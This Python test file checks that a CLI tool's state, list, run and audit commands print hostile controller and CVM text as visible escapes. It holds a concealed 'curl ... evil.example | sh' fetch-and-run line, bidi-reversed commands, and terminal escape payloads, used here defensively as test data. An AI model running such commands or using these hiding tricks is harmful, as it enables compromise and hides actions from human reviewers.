"""What an owner, a CVM or a controller sends is shown to people as text, never obeyed by
their terminal or by rich's markup (issue 12, item 8).

An owner could otherwise hide a command from whoever reads ``duet cvm state`` or ``duet audit``
(``ESC[8m``, conceal), erase lines, move the cursor, retitle the terminal, reorder what is
shown (bidi overrides, "Trojan Source"), or forge table rows with a newline. ``--json`` output
stays exact: JSON escapes control characters itself.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ledger_fakes import CVM, OWNER, EntryLedger, FakeSource
from typer.testing import CliRunner, Result

from duet.cli.context import CliContext
from duet.cli.main import app
from duet.errors import DuetError
from duet.protocol import lifecycle as lc

HIDDEN_COMMAND = "curl -s http://evil.example/x | sh \x1b[8m; echo harmless\x1b[0m\x1b[2K"
BIDI_COMMAND = "echo 'safe' \u202e;hs | lruc\u202c"
MARKUP_COMMAND = "echo [bold red]x[/] [link=http://evil.example]y[/link]"
ROW_FORGING_COMMAND = "true\n99  apt-get update  0"
STDOUT = "\x1b[8mhidden\x1b[0m\nvisible\x1b]0;pwned\x07\n\x9b2Jend\tof output\n"
STDERR = "\x1b[1A\x1b[2Kwarning\u2066 gone\n"
RAW = ("\x1b", "\x9b", "\x07", "\u202e", "\u202c", "\u2066")


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def assert_no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, f"raw U+{ord(char):04X} printed"


def flat(text: str) -> str:
    return " ".join(text.split())


# --- duet cvm ... --------------------------------------------------------------------------------

HOSTILE_CVM = {
    "cvm_id": "c1" * 32,
    "type": "snp\x1b[8m",
    "provider": "local\u202e",
    "mode": "in-update",
    "final": False,
    "created_at": "2026-12-01T10:00:00Z\x1b]0;t\x07",
    "failure": "boot failed \x1b[2K[red]really[/]",
}
COMMANDS = [HIDDEN_COMMAND, BIDI_COMMAND, MARKUP_COMMAND, ROW_FORGING_COMMAND]


class FakeClient:
    """What ``CliContext.client()`` returns for ``duet cvm``: a controller whose answers carry escapes."""

    def __enter__(self) -> FakeClient:
        return self

    def __exit__(self, *exc: object) -> None:
        pass

    def state(self, cvm_id: str) -> dict[str, Any]:
        commands = [
            {
                "seq": 3 + 2 * index,
                "command": command,
                "status": "finished",
                "exit_status": 0,
                "duration_ms": 5.0,
                "stdout_sha256": sha(STDOUT),
                "stderr_sha256": sha(STDERR),
            }
            for index, command in enumerate(COMMANDS)
        ]
        return {"cvm": dict(HOSTILE_CVM), "commands": commands, "modes": []}

    def entries(self, start: int = 0, end: int | None = None, cvm: str | None = None) -> list[dict[str, Any]]:
        """The ledger entries behind :meth:`state`'s rows (``--long`` reads the whole history there)."""
        out: list[dict[str, Any]] = []
        for row in self.state(CVM)["commands"]:
            out.append({"seq": row["seq"], "cvm": CVM, "event": "command.started", "command": row["command"]})
            outcome = {k: row[k] for k in ("exit_status", "duration_ms", "stdout_sha256", "stderr_sha256")}
            out.append({"seq": row["seq"] + 1, "cvm": CVM, "event": "command.finished", "started_seq": row["seq"], **outcome})
        return out

    def blob(self, digest: str) -> bytes:
        return {sha(STDOUT): STDOUT, sha(STDERR): STDERR}[digest].encode()

    def list_cvms(self) -> list[dict[str, Any]]:
        return [dict(HOSTILE_CVM)]

    def run(self, cvm_id: str, commands: list[str], **limits: Any) -> dict[str, Any]:
        return {
            "results": [
                {"command": c, "exit_status": 0, "timed_out": False, "duration_ms": 1.5, "stdout": STDOUT, "stderr": STDERR}
                for c in commands
            ]
        }

    def mark(self, cvm_id: str, mode: str, *, final: bool = False) -> dict[str, Any]:
        raise DuetError("refused: \x1b[8m[bold]hidden[/]\x1b[0m", code="not_in_update\x1b[2K")


def cvm_cli(monkeypatch: pytest.MonkeyPatch, *args: str) -> Result:
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: FakeClient())
    return CliRunner().invoke(app, ["--url", "https://controller.test:6037", "--key", "owner.pem", *args], env={"COLUMNS": "300"})


def test_cvm_state_shows_escapes_in_the_table(monkeypatch: pytest.MonkeyPatch) -> None:
    result = cvm_cli(monkeypatch, "cvm", "state", CVM)
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    assert "\\x1b[8m; echo harmless\\x1b[0m\\x1b[2K" in result.stdout
    assert "\\u202e;hs | lruc\\u202c" in result.stdout
    assert "type snp\\x1b[8m" in result.stdout and "provider local\\u202e" in result.stdout
    assert "failure: boot failed \\x1b[2K[red]really[/]" in result.stdout
    # A newline in a command cannot forge a row: each command is one row.
    assert "true\\n99  apt-get update  0" in result.stdout
    assert not any(line.startswith("99 ") for line in result.stdout.splitlines())


def test_cvm_state_long_shows_escapes_in_commands_and_outputs(monkeypatch: pytest.MonkeyPatch) -> None:
    result = cvm_cli(monkeypatch, "cvm", "state", CVM, "--long")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    assert "$ curl -s http://evil.example/x | sh \\x1b[8m; echo harmless\\x1b[0m\\x1b[2K  (exit 0" in result.stdout
    assert "$ true\\n99  apt-get update  0  (exit 0" in result.stdout
    assert "out| \\x1b[8mhidden\\x1b[0m\n" in result.stdout
    assert "out| visible\\x1b]0;pwned\\x07\n" in result.stdout
    assert "out| \\x9b2Jend\tof output\n" in result.stdout  # the tab of an output is kept
    assert "err| \\x1b[1A\\x1b[2Kwarning\\u2066 gone\n" in result.stdout


def test_cvm_list_shows_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    result = cvm_cli(monkeypatch, "cvm", "list")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    assert "snp\\x1b[8m" in result.stdout and "local\\u202e" in result.stdout and "\\x1b]0;t\\x07" in result.stdout


def test_cvm_run_shows_escapes_and_no_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    args = [arg for command in COMMANDS for arg in ("--cmd", command)]
    result = cvm_cli(monkeypatch, "cvm", "run", CVM, *args)
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    out = result.stdout
    assert "$ curl -s http://evil.example/x | sh \\x1b[8m; echo harmless\\x1b[0m\\x1b[2K" in out
    assert "$ echo 'safe' \\u202e;hs | lruc\\u202c" in out
    assert "$ echo [bold red]x[/] [link=http://evil.example]y[/link]" in out  # rich markup shown, not obeyed
    assert "$ true\\n99  apt-get update  0" in out
    assert "\\x1b[8mhidden\\x1b[0m\nvisible\\x1b]0;pwned\\x07\n\\x9b2Jend" in out  # (rich expands the tab)
    assert "\\x1b[1A\\x1b[2Kwarning\\u2066 gone\n" in out


def test_a_controller_error_is_shown_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    result = cvm_cli(monkeypatch, "cvm", "mark", CVM, "in-service")
    assert result.exit_code == 1
    assert_no_raw_controls(result.stderr)
    assert "(not_in_update\\x1b[2K): refused: \\x1b[8m[bold]hidden[/]\\x1b[0m" in result.stderr


@pytest.mark.parametrize("args", [["cvm", "state", CVM, "--long"], ["cvm", "list"], ["cvm", "run", CVM, "--cmd", HIDDEN_COMMAND]])
def test_json_output_stays_exact(monkeypatch: pytest.MonkeyPatch, args: list[str]) -> None:
    result = cvm_cli(monkeypatch, "--json", *args)
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)  # JSON escapes them itself: \u001b
    data = json.loads(result.stdout)
    if args[1] == "state":
        assert [row["command"] for row in data["commands"]] == COMMANDS
        assert {row["stdout"] for row in data["commands"]} == {STDOUT}
        assert data["cvm"] == HOSTILE_CVM
    elif args[1] == "list":
        assert data["cvms"] == [HOSTILE_CVM]
    else:
        assert data["results"][0]["command"] == HIDDEN_COMMAND and data["results"][0]["stdout"] == STDOUT


# --- duet audit ------------------------------------------------------------------------------------


class AuditSource(FakeSource):
    """A fake controller (``ledger_fakes.FakeSource``) that also serves outputs, for ``duet audit``."""

    def __init__(self, ledger: EntryLedger, home: Path, blobs: dict[str, str]) -> None:
        super().__init__(ledger, owners=(OWNER,))
        self.trust = SimpleNamespace(path=home / "controllers.json")
        self.blobs = blobs

    def __enter__(self) -> AuditSource:
        return self

    def __exit__(self, *exc: object) -> None:
        pass

    def check_identity(self) -> None:
        pass

    def blob(self, sha256: str) -> bytes:
        if sha256 in self.blobs:
            return self.blobs[sha256].encode()
        return super().blob(sha256)


def hostile_ledger() -> EntryLedger:
    ledger = EntryLedger()
    ledger.owners(OWNER)
    ledger.provision()
    ledger.add(CVM, lc.CVM_READY, mode=lc.IN_UPDATE, uname="Linux \x1b]0;pwned\x07 6.1")
    for command in COMMANDS:
        started = ledger.add(CVM, lc.COMMAND_STARTED, OWNER, command=command)
        ledger.add(
            CVM,
            lc.COMMAND_FINISHED,
            command=command,
            started_seq=started["seq"],
            exit_status=0,
            duration_ms=5.0,
            stdout_sha256=sha(STDOUT),
            stdout_size=len(STDOUT),
            stderr_sha256=sha(STDERR),
            stderr_size=len(STDERR),
        )
    return ledger


def audit_cli(monkeypatch: pytest.MonkeyPatch, source: AuditSource, *args: str) -> Result:
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: source)
    return CliRunner().invoke(app, ["--url", FakeSource.url, "audit", *args], env={"COLUMNS": "400"})


def test_audit_long_shows_escapes_in_commands_details_and_outputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = AuditSource(hostile_ledger(), tmp_path, {sha(STDOUT): STDOUT, sha(STDERR): STDERR})
    result = audit_cli(monkeypatch, source, CVM, "--long")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    out = flat(result.stdout)
    assert "curl -s http://evil.example/x | sh \\x1b[8m; echo harmless\\x1b[0m\\x1b[2K" in out
    assert "echo 'safe' \\u202e;hs | lruc\\u202c" in out
    assert "echo [bold red]x[/] [link=http://evil.example]y[/link]" in out  # markup shown, not obeyed
    assert "true\\n99 apt-get update 0" in out
    assert "uname: Linux \\x1b]0;pwned\\x07 6.1" in out
    assert "\\x1b[8mhidden\\x1b[0m" in out and "visible\\x1b]0;pwned\\x07" in out and "\\x9b2Jend" in out


def test_audit_findings_that_quote_a_command_show_escapes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = AuditSource(hostile_ledger(), tmp_path, {sha(STDERR): STDERR})  # every stdout is missing
    result = audit_cli(monkeypatch, source, CVM, "--long")
    assert result.exit_code == 3
    assert_no_raw_controls(result.stdout + result.stderr)
    err = flat(result.stderr)
    assert "stdout of `curl -s http://evil.example/x | sh \\x1b[8m; echo harmless\\x1b[0m\\x1b[2K`: no such output" in err
    assert "stdout of `echo [bold red]x[/] [link=http://evil.example]y[/link]`" in err


def test_audit_json_stays_exact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = AuditSource(hostile_ledger(), tmp_path, {sha(STDOUT): STDOUT, sha(STDERR): STDERR})
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: source)
    result = CliRunner().invoke(app, ["--url", FakeSource.url, "--json", "audit", CVM, "--long"])
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout)
    timeline = json.loads(result.stdout)["timeline"]
    assert [row["command"] for row in timeline if row["event"] == lc.COMMAND_STARTED] == COMMANDS
    assert {row["stdout"] for row in timeline if row["event"] == lc.COMMAND_FINISHED} == {STDOUT}
